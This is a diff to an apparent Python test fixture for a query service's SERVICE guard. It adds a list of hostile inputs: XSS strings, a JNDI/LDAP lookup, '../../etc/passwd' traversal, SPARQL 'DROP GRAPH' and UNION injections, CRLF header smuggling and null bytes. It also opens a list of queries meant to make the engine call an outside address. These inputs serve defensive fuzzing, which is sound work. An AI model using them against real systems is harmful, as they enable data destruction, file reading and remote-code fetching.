@@ -1,4 +1,4 @@
-"""Queries that try to bypass the SERVICE guard, and a listener that records requests."""
+"""Hostile texts, queries that try to bypass the SERVICE guard, and a listener that records requests."""
 
 from __future__ import annotations
 
@@ -6,6 +6,31 @@ import socket
 import threading
 from types import TracebackType
 
+# Values that a client may send where a name, a day or a word is expected.
+HOSTILE = [
+    *(
+        "",
+        " ",
+        "'",
+        '"',
+        "<>",
+        "*",
+        "nev:",
+        ":",
+        "_:b0",
+        "no:prefix",
+        "( [ \\ *",
+        "1e999999999",
+        "9" * 1900,
+        "長" * 1900,
+        "x" * 500,
+        "🚗" * 200,
+    ),
+    *("<javascript:alert(1)>", '"><script>alert(1)</script>', "${jndi:ldap://x}", "%s%n{0}", "../../etc/passwd", "<http://a b>"),
+    *("place:TH> } . DROP ALL #", '" . ?s ?p ?o . "', "}} UNION {{ ?s ?p ?o }}", "} UNION { ?s ?p ?o }", "'; DROP GRAPH <x> ; #"),
+    *("\\u003e\\u0022", "\x00", "a\x00b\r\nX-Evil: 1", "\ud7ff\ufffd\u202eabc"),
+    *("http://example.org/{}|^`", "https://w3id.org/nevkg/place/TH#%00"),
+]
 # Each makes the engine call {address} if a guard parses the text differently. Found by hand or by fuzzing.
 BYPASSES = [
     # A tokenizer reads an IRI; the engine reads "less than" and a comment.
